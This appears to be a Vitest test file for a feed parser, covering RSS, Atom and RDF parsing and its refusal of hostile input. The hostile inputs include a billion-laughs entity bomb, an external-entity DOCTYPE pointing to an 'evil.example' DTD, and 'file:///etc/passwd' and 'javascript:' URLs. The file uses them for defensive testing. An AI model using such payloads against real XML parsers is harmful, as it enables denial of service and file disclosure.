import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { FeedError } from './feed-error'
import type { FeedErrorCode } from './feed-error'
import { FEED_LIMITS, feedItemSchema, parseFeed } from './feed-parser'
import type { ParsedFeed } from './feed-parser'

const fixture = (name: string): Buffer => readFileSync(new URL(`fixtures/${name}`, import.meta.url))
const SOURCE = 'https://feeds.example/news.xml'

/** The error parseFeed throws, asserting it is a FeedError with `code` and that no result came back. */
function parseError(input: string | Uint8Array, code: FeedErrorCode, source = SOURCE): FeedError {
  let result: ParsedFeed | undefined
  try {
    result = parseFeed(input, source)
  } catch (error) {
    expect(error).toBeInstanceOf(FeedError)
    expect((error as FeedError).code).toBe(code)
    expect((error as FeedError).message.length).toBeGreaterThan(30)
    return error as FeedError
  }
  expect.fail(`expected ${code}, got a result with ${result.items.length} items`)
}

const rss = (items: string, channel = '<title>T</title><link>https://site.example/</link>') => `<?xml version="1.0"?><rss version="2.0"><channel>${channel}${items}</channel></rss>`

describe('parseFeed: real-world samples', () => {
  it('reads RSS 2.0 with CDATA, HTML descriptions, dc:creator and relative links', () => {
    const feed = parseFeed(fixture('rss2-blog.xml'), SOURCE)
    expect(feed.format).toBe('rss2')
    expect(feed.title).toBe('Riverside Food Co-op – News')
    expect(feed.link).toBe('https://riverside-coop.example/')
    expect(feed.skipped).toBe(0)
    expect(feed.items).toHaveLength(3)
    const [meeting, hours, note] = feed.items
    expect(meeting).toEqual({
      id: 'https://riverside-coop.example/?p=1432',
      title: 'Spring general meeting: agenda & proposals',
      link: 'https://riverside-coop.example/2024/05/spring-general-meeting/',
      summary: expect.stringContaining('Our spring general meeting is on Saturday 1 June at the community hall. We’ll vote'),
      published: Date.UTC(2024, 4, 14, 9, 12, 41),
      author: 'Maria Okafor',
      sourceUrl: SOURCE,
    })
    expect(meeting?.summary).not.toMatch(/<|&amp;|&#/)
    // Escaped HTML is decoded once at the XML level, then stripped as HTML; &ndash; comes from HTML's names.
    expect(hours).toMatchObject({ title: 'New opening hours from 20 May', summary: "We're open 8am to 8pm on weekdays & 9–5 at weekends.", author: 'Shop Team' })
    // A relative <link> resolves against the feed's own address.
    expect(hours?.link).toBe('https://feeds.example/2024/05/opening-hours/')
    expect(hours?.published).toBe(Date.UTC(2024, 4, 6, 17, 30))
    // No title, no link, no guid: the title comes from the summary and the id is a stable content hash.
    expect(note?.title).toBe('A short note without a title or a link: the veg boxes are back.')
    expect(note?.link).toBeNull()
    expect(note?.id).toMatch(/^sha256:[0-9a-f]{64}$/)
    expect(note?.published).toBe(Date.UTC(2024, 3, 28, 12))
    expect(parseFeed(fixture('rss2-blog.xml'), SOURCE).items[2]?.id).toBe(note?.id)
  })

  it('reads Atom with xml:base, relative links and text/html/xhtml constructs', () => {
    const feed = parseFeed(fixture('atom-xml-base.xml'), SOURCE)
    expect(feed.format).toBe('atom')
    expect(feed.title).toBe("Tenants' Union Blog")
    expect(feed.link).toBe('https://tenants-union.example/blog/')
    const [strike, flyers, literal] = feed.items
    expect(strike).toMatchObject({
      id: 'tag:tenants-union.example,2024-05-12:/blog/2024/05/rent-strike-update',
      link: 'https://tenants-union.example/blog/2024/05/rent-strike-update/',
      summary: 'The landlord has agreed to meet on Thursday.',
      published: Date.UTC(2024, 4, 12, 16, 30, 2),
      author: 'Sam Lee',
    })
    // The entry's own xml:base (/archive/) is resolved against the feed's.
    expect(flyers).toMatchObject({ title: 'Flyers & posters', link: 'https://tenants-union.example/archive/flyers.html', author: "Northside Tenants' Union" })
    expect(flyers?.summary).toBe('Download the new flyer and print it.\n\nPosters are in the office.')
    expect(flyers?.published).toBe(Date.UTC(2024, 3, 30, 10))
    // type="text" is shown as written: its angle brackets are text, not markup.
    expect(literal).toMatchObject({ title: 'Plain text with <brackets>', summary: 'Tenants <b>must</b> see this literally: a < b & c.', link: 'https://mirror.example/elsewhere' })
  })

  it('reads RSS 1.0 (RDF) with rdf:about ids and Dublin Core dates', () => {
    const feed = parseFeed(fixture('rss1-rdf.xml'), SOURCE)
    expect(feed).toMatchObject({ format: 'rss1', title: 'Parish Council Notices', link: 'https://parish-council.example/', skipped: 0 })
    expect(feed.items.map((item) => [item.id, item.title, item.author])).toEqual([
      ['https://parish-council.example/notices/road-closure', 'Road closure on Mill Lane', 'Clerk to the Council'],
      ['https://parish-council.example/notices/allotments', 'Allotment plots available', null],
    ])
    expect(feed.items[0]?.published).toBe(Date.UTC(2024, 4, 10, 7))
    expect(feed.items[1]?.summary).toBe('Three plots are free. Apply to the clerk.')
  })

  it('accepts RSS 0.91 with the Netscape DOCTYPE (never fetched) and HTML entity names', () => {
    const feed = parseFeed(fixture('rss091-netscape.xml'), SOURCE)
    expect(feed.format).toBe('rss2')
    expect(feed.title).toBe('Café Société')
    expect(feed.items[0]).toMatchObject({ title: 'Soirée jazz vendredi', summary: 'Entrée libre — venez nombreux!', link: 'http://cafe-societe.example/jazz.html' })
  })

  it('decodes bytes in the encoding the XML declaration names', () => {
    const latin1 = Buffer.from(rss('<item><title>Caf\u00e9 cr\u00e8me</title><link>https://site.example/1</link></item>').replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="ISO-8859-1"?>'), 'latin1')
    expect(parseFeed(latin1, SOURCE).items[0]?.title).toBe('Café crème')
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rss('<item><title>Zürich</title><guid>z</guid></item>'), 'utf16le')])
    expect(parseFeed(utf16, SOURCE).items[0]?.title).toBe('Zürich')
    parseError(Buffer.from('<?xml version="1.0" encoding="x-klingon"?><rss/>'), 'FEED_UNSUPPORTED_ENCODING')
  })

  it('strips markup from RSS text only when it holds markup', () => {
    const feed = parseFeed(rss('<item><title>Why x&lt;y matters</title><guid>1</guid><description>if a&lt;b then c</description></item><item><title>Bold &lt;b&gt;move&lt;/b&gt;</title><guid>2</guid></item>'), SOURCE)
    expect(feed.items.map((item) => item.title)).toEqual(['Why x<y matters', 'Bold move'])
    expect(feed.items[0]?.summary).toBe('if a<b then c')
  })

  it('takes the conventional meaning of an undeclared dc: prefix', () => {
    const feed = parseFeed(rss('<item><title>x</title><guid>1</guid><dc:creator>Ada</dc:creator></item>'), SOURCE)
    expect(feed.items[0]?.author).toBe('Ada')
  })
})

describe('parseFeed: hostile and broken input', () => {
  it('refuses a billion-laughs DOCTYPE before expanding anything', () => {
    const error = parseError(fixture('billion-laughs.xml'), 'FEED_ENTITY_EXPANSION')
    expect(error.message).toMatch(/entities/)
  })

  it('refuses external entities (no file is ever read)', () => {
    parseError(fixture('external-entity.xml'), 'FEED_ENTITY_EXPANSION')
    parseError('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>', 'FEED_ENTITY_EXPANSION')
  })

  it('refuses declarations inside the document and leaves undeclared references as written', () => {
    const bomb = fixture('billion-laughs.xml').toString('utf8')
    const doctype = bomb.slice(bomb.indexOf('<!DOCTYPE'), bomb.indexOf(']>') + 2)
    parseError(`<rss version="2.0">${doctype}<channel><title>&lol9;</title></channel></rss>`, 'FEED_ENTITY_EXPANSION')
    parseError(`<rss version="2.0"><channel><!ENTITY a "b"><title>&a;</title></channel></rss>`, 'FEED_ENTITY_EXPANSION')
    parseError(`<rss version="2.0"><channel><!DOCTYPE x><title>x</title></channel></rss>`, 'FEED_INVALID_XML')
    for (const variant of [bomb.replace('<!DOCTYPE', '<!doctype'), `\ufeff${bomb}`, `<!-- first -->${bomb.replace('<?xml version="1.0"?>', '')}`]) {
      parseError(variant, 'FEED_ENTITY_EXPANSION')
    }
    // The parser's own entity processing is off: a reference nobody declared is left as text.
    expect(parseFeed(rss('<item><title>&lol9;</title><guid>1</guid></item>'), SOURCE).items[0]?.title).toBe('&lol9;')
  })

  it('fails a malformed feed as a whole, with the line — not its first good item', () => {
    const error = parseError(fixture('invalid.xml'), 'FEED_INVALID_XML')
    expect(error.message).toMatch(/line 11/)
    expect(error.details).toMatchObject({ line: 11 })
    parseError('', 'FEED_INVALID_XML')
    parseError(rss('<item><title>a &amp b</title></item>'), 'FEED_INVALID_XML')
    parseError(`<rss>${'<a>'.repeat(200)}${'</a>'.repeat(200)}</rss>`, 'FEED_INVALID_XML')
  })

  it('says an HTML page is not a feed', () => {
    const error = parseError(fixture('html-page.html'), 'FEED_NOT_A_FEED')
    expect(error.message).toMatch(/web page/)
    parseError('<html><head><title>x</title></head><body/></html>', 'FEED_NOT_A_FEED')
    parseError('<?xml version="1.0"?><note><to>Tove</to></note>', 'FEED_NOT_A_FEED')
    parseError('{"version": "https://jsonfeed.org/version/1.1", "items": []}', 'FEED_NOT_A_FEED')
    parseError('<rss version="2.0"><item/></rss>', 'FEED_NOT_A_FEED')
    parseError('<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description/></rdf:RDF>', 'FEED_NOT_A_FEED')
  })

  it('drops javascript:, data: and file: links and strips scripts from summaries', () => {
    const feed = parseFeed(fixture('hostile.xml'), SOURCE)
    expect(feed.title).toBe('Totally Legit News')
    expect(feed.link).toBeNull()
    const byId = new Map(feed.items.map((item) => [item.id, item]))
    expect(byId.get('hostile-1')).toMatchObject({ title: 'Click me', link: null, summary: 'Hello world' })
    // An escaped "<script>" is text the author wrote: it stays text (and is rendered as text).
    expect(byId.get('hostile-2')).toMatchObject({ title: 'Data link', link: null, summary: 'Escaped <script> is shown as text' })
    expect(byId.get('hostile-3')).toMatchObject({ title: 'Spoofedtxt.exe', link: null, summary: '' })
    expect(byId.get('hostile-4')?.link).toBe('https://news.example/ok')
    expect(byId.get('hostile-5')?.link).toBeNull()
    for (const item of feed.items) {
      expect(item.summary).not.toMatch(/alert|steal|fetch|display:none|evil/)
      expect(item.link === null || /^https?:\/\//.test(item.link)).toBe(true)
      expect(feedItemSchema.safeParse(item).success).toBe(true)
    }
  })

  it('refuses input over 5 MB without parsing it', () => {
    const big = rss(`<item><title>x</title><description>${'a'.repeat(FEED_LIMITS.maxBytes)}</description></item>`)
    expect(parseError(big, 'FEED_TOO_LARGE').details).toMatchObject({ maxBytes: FEED_LIMITS.maxBytes })
    parseError(Buffer.from(big), 'FEED_TOO_LARGE')
    // Multi-byte characters count as bytes, not as UTF-16 units.
    parseError(rss(`<item><title>${'é'.repeat(FEED_LIMITS.maxBytes / 2)}</title></item>`), 'FEED_TOO_LARGE')
  })

  it('refuses a document of a million tiny elements before building a tree of it', () => {
    const error = parseError(rss(`<item><title>x</title><guid>1</guid><x>${'<a/>'.repeat(1_000_000)}</x></item>`), 'FEED_TOO_LARGE')
    expect(error.message).toMatch(/XML elements/)
    // Markup inside CDATA is text, not elements: a long HTML description is fine.
    const html = `<![CDATA[${'<p>a <b>b</b></p>'.repeat(100_000)}]]>`
    expect(parseFeed(rss(`<item><title>x</title><guid>1</guid><description>${html}</description></item>`), SOURCE).items).toHaveLength(1)
  })

  it('refuses a feed of more than 500 items', () => {
    const items = (count: number) => Array.from({ length: count }, (_, n) => `<item><title>n${n}</title><guid>${n}</guid></item>`).join('')
    expect(parseFeed(rss(items(500)), SOURCE).items).toHaveLength(500)
    expect(parseError(rss(items(501)), 'FEED_TOO_MANY_ITEMS').details).toMatchObject({ items: 501, maxItems: 500 })
  })

  it('bounds titles, summaries and authors, and counts items it had to drop', () => {
    const longTitle = 'Long '.repeat(200)
    const feed = parseFeed(
      rss(`<item><title>${longTitle}</title><guid>1</guid><description>${'word '.repeat(5000)}</description><author>${'x'.repeat(500)}</author></item><item></item><item><title>   </title><link>javascript:void(0)</link></item>`),
      SOURCE,
    )
    expect(feed.items).toHaveLength(1)
    expect(feed.skipped).toBe(2)
    const [item] = feed.items
    expect(item?.title.length).toBeLessThanOrEqual(300)
    expect(item?.title.endsWith('…')).toBe(true)
    expect(item?.summary.length).toBeLessThanOrEqual(4000)
    expect(item?.summary.length).toBeGreaterThan(3900)
    expect(item?.author?.length).toBeLessThanOrEqual(200)
  })

  it('hashes an over-long guid instead of storing it, and survives absurd dates', () => {
    const feed = parseFeed(rss(`<item><title>x</title><guid isPermaLink="false">${'g'.repeat(5000)}</guid><pubDate>not a date</pubDate></item><item><title>y</title><guid>2</guid><pubDate>Mon, 01 Jan 12000 00:00:00 GMT</pubDate></item>`), SOURCE)
    expect(feed.items[0]?.id).toMatch(/^sha256:/)
    expect(feed.items.map((item) => item.published)).toEqual([null, null])
  })

  it('refuses a source URL that is not http(s)', () => {
    for (const bad of ['file:///etc/passwd', 'javascript:alert(1)', 'feeds.example/news.xml']) {
      expect(() => parseFeed(fixture('rss2-blog.xml'), bad)).toThrowError(expect.objectContaining({ code: 'FEED_BAD_URL' }))
    }
  })
})
